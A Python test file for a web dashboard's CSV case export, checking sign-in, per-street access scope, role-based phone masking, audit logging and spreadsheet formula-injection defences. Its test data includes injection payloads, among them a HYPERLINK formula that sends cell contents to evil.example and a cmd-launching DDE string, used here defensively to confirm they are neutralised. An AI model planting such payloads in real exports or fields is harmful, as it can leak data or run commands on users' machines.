"""``GET /export/cases.csv`` on the real app (sign-in required), database and Redis, through Flask's test
client: the viewer's scope whatever the URL asks, phones by role, a wall refused, formula injection
neutralised, every export audited, the duty page's link carrying its filters."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from data.auth import audit_rows, create_user
from data.db import transaction
from data.seed import seed_catalogue
from tests.dashboard.test_auth_web import ADDR, PASSWORD, route_callback, sign_in
from tests.layers.hierarchy import STREETS, add_case

WEST, EAST = STREETS
PHONE = re.compile(r"(?<![\d.])1[3-9]\d{9}(?!\d)")
MASKED = re.compile(r"1\d\d\*{4}\d{4}")
REPORTER = "13912345678"
HOSTILE = {
    "f-eq": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "f-plus": "+1+cmd|' /C calc'!A0",
    "f-minus": "-2+3",
    "f-at": "@SUM(1,2)",
    "f-tab": "\t=1+1",
    "f-cr": "\r=1+1",
}


@pytest.fixture
def web(settings, redis_url, redis_conn, engine, session_factory, grids) -> Iterator[Any]:  # type: ignore[no-untyped-def]
    from dashboard.app import create_app
    from dashboard.services import services

    with transaction(session_factory) as session:
        seed_catalogue(session)
        west = add_case(session, grids[0], external_id="west", title="西边的案件", overdue=True)
        west.reporter_phone = REPORTER
        west.deadline_at = datetime.now(UTC) - timedelta(hours=5)  # overdue, with its yellow card
        for i, (key, title) in enumerate(HOSTILE.items()):
            add_case(session, grids[1 + i % 3], external_id=key, title=title)
        add_case(session, grids[4], external_id="east", title="东边的案件")
        add_case(session, grids[6], external_id="east2", title="东边另一件", status="in_progress")
        create_user(session, "street1", PASSWORD, "duty", WEST)
        create_user(session, "leader", PASSWORD, "leader", "500151")
        create_user(session, "wall1", PASSWORD, "wall", "500151")
        create_user(session, "admin", PASSWORD, "admin", "500151")
    app = create_app(settings.model_copy(update={"redis_url": redis_url, "auth_required": True}))
    yield app
    services(app.server).close()


@pytest.fixture
def client(web):  # type: ignore[no-untyped-def]
    client = web.server.test_client()
    client.environ_base["REMOTE_ADDR"] = ADDR
    return client


def table(response: Any) -> list[list[str]]:
    """The CSV's rows (header first), read as Excel would: UTF-8 after the byte-order mark."""
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="gridcc-cases-')
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(raw.decode("utf-8")[1:], newline="")))


def test_without_a_session_the_export_sends_to_sign_in(client) -> None:  # type: ignore[no-untyped-def]
    response = client.get(f"/export/cases.csv?street={WEST}")
    assert response.status_code == 302
    assert response.headers["Location"] == f"/signin?next=%2Fexport%2Fcases.csv%3Fstreet%3D{WEST}"
    assert "东边" not in response.get_data(as_text=True) and "西边" not in response.get_data(as_text=True)


def test_street_officer_gets_its_street_and_nothing_of_the_other(client, session_factory) -> None:  # type: ignore[no-untyped-def]
    assert sign_in(client, "street1").status_code == 302
    rows = table(client.get("/export/cases.csv"))
    header, body = rows[0], rows[1:]
    assert header[:6] == ["编号", "标题", "类别", "镇街", "社区", "网格"]
    assert len(body) == 1 + len(HOSTILE)
    assert all(r[3] == "巴川街道" for r in body), {r[3] for r in body}
    text = "\n".join(",".join(r) for r in rows)
    assert "东边" not in text

    # forged: the other street, by the duty page's own parameter
    forged = client.get(f"/export/cases.csv?street={EAST}&status=in_progress")
    assert forged.status_code == 403
    body_text = forged.get_data(as_text=True)
    assert "不在您的管辖范围内" in body_text and "东边" not in body_text and "," not in body_text
    # forged differently: no street, but the other street's department/status; still only the west
    rows = table(client.get("/export/cases.csv?status=in_progress"))
    assert rows[1:] == []
    with session_factory() as session:
        refused = audit_rows(session, action="export_refused")[0]
        assert (refused.actor, refused.target, refused.remote_addr) == ("street1", "cases.csv", ADDR)
        assert f"street={EAST}" in refused.detail


def test_filters_are_the_duty_pages(client) -> None:  # type: ignore[no-untyped-def]
    assert sign_in(client, "leader").status_code == 302
    everything = table(client.get("/export/cases.csv"))[1:]
    assert len(everything) == 3 + len(HOSTILE)
    east = table(client.get(f"/export/cases.csv?street={EAST}"))[1:]
    assert sorted(r[1] for r in east) == ["东边另一件", "东边的案件"]
    in_progress = table(client.get(f"/export/cases.csv?street={EAST}&status=in_progress&period=7d"))[1:]
    assert [r[1] for r in in_progress] == ["东边另一件"]
    assert client.get("/export/cases.csv?street=east").status_code == 400
    assert client.get("/export/cases.csv?status=nonsense").status_code == 400
    assert client.get("/export/cases.csv?period=forever").status_code == 400


def test_formula_injection_is_neutralised(client) -> None:  # type: ignore[no-untyped-def]
    assert sign_in(client, "street1").status_code == 302
    titles = {r[1] for r in table(client.get("/export/cases.csv"))[1:]}
    for title in HOSTILE.values():
        assert "'" + title in titles, title
        assert title not in titles
    assert "西边的案件" in titles  # ordinary text untouched


def test_phones_by_role_and_each_export_audited(client, session_factory) -> None:  # type: ignore[no-untyped-def]
    assert sign_in(client, "street1").status_code == 302
    rows = table(client.get(f"/export/cases.csv?street={WEST}&lang=zh-CN"))
    west = next(r for r in rows if r[1] == "西边的案件")
    assert west[-1] == REPORTER and west[-2] == "13800000000" and west[-3] == "网格员0"
    assert west[9] == "是" and west[11] == "黄牌督办"
    with session_factory() as session:
        done = audit_rows(session, action="export")[0]
        assert (done.actor, done.target, done.remote_addr) == ("street1", "cases.csv", ADDR)
        assert done.detail.startswith(f"{len(rows) - 1} rows; filters: street={WEST}")
        assert "phones full" in done.detail
        seen = audit_rows(session, action="personal_view")[0]
        assert (seen.actor, seen.target) == ("street1", "export:cases.csv")

    leader = client.application.test_client()
    leader.environ_base["REMOTE_ADDR"] = ADDR
    assert sign_in(leader, "leader").status_code == 302
    raw = leader.get("/export/cases.csv?lang=en").get_data().decode("utf-8")
    assert raw.splitlines()[0].lstrip("\ufeff").startswith("ID,Title,Category,Street,Community,Grid,Status")
    assert PHONE.findall(raw) == [] and MASKED.search(raw)  # masked, never in full
    assert "139****5678" in raw
    with session_factory() as session:
        rows_by_leader = audit_rows(session, actor="leader", action="export")
        assert len(rows_by_leader) == 1 and "phones masked" in rows_by_leader[0].detail
        assert audit_rows(session, actor="leader", action="personal_view") == []


def test_a_wall_does_not_export(client, session_factory) -> None:  # type: ignore[no-untyped-def]
    assert sign_in(client, "wall1").status_code == 302
    response = client.get("/export/cases.csv")
    assert response.status_code == 403
    text = response.get_data(as_text=True)
    assert "大屏账号不能导出" in text and "西边" not in text and not PHONE.search(text)
    with session_factory() as session:
        row = audit_rows(session, action="export_refused")[0]
        assert (row.actor, row.remote_addr) == ("wall1", ADDR)
        assert audit_rows(session, action="export") == []


def test_no_export_while_sign_in_is_off(settings, redis_url, redis_conn, engine, grids) -> None:  # type: ignore[no-untyped-def]
    from dashboard.app import create_app
    from dashboard.services import services

    app = create_app(settings.model_copy(update={"redis_url": redis_url, "auth_required": False}))
    try:
        response = app.server.test_client().get("/export/cases.csv")
        assert response.status_code == 403 and "sign-in is off" in response.get_data(as_text=True)
    finally:
        services(app.server).close()


def _duty_page(client: Any, search: str) -> str:
    body = route_callback("/duty")
    body["state"][0]["value"] = search
    token = client.get_cookie("_csrf_token").value
    response = client.post("/_dash-update-component", json=body, headers={"X-CSRFToken": token})
    assert response.status_code == 200
    return str(response.get_data(as_text=True))


def _export_anchor(page: str) -> dict[str, Any]:
    import json

    found: list[dict[str, Any]] = []

    def walk(node: Any) -> None:
        if isinstance(node, dict):
            if node.get("props", {}).get("id") == "duty-export":
                found.append(node["props"])
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(json.loads(page))
    assert len(found) == 1
    return found[0]


def test_duty_page_link_carries_the_filters(client) -> None:  # type: ignore[no-untyped-def]
    assert sign_in(client, "street1").status_code == 302
    link = _export_anchor(_duty_page(client, f"?street={WEST}&status=accepted&lang=en"))
    assert link["href"] == f"/export/cases.csv?street={WEST}&status=accepted&lang=en"
    assert link["children"] == "Export" and not link["hidden"]
    rows = table(client.get(link["href"]))
    assert rows[0][0] == "ID" and rows[1:] and all(r[6] == "Accepted" for r in rows[1:])


def test_duty_page_link_hidden_from_a_wall(client) -> None:  # type: ignore[no-untyped-def]
    assert sign_in(client, "wall1").status_code == 302
    link = _export_anchor(_duty_page(client, ""))
    assert link["hidden"] is True and link["href"] == ""


def test_safe_cell() -> None:
    from dashboard.export_csv import safe_cell

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1") == "'" + start + "1"
    assert safe_cell("巴川街道") == "巴川街道" and safe_cell(12) == "12" and safe_cell(None) == ""
    assert safe_cell("a=1") == "a=1"
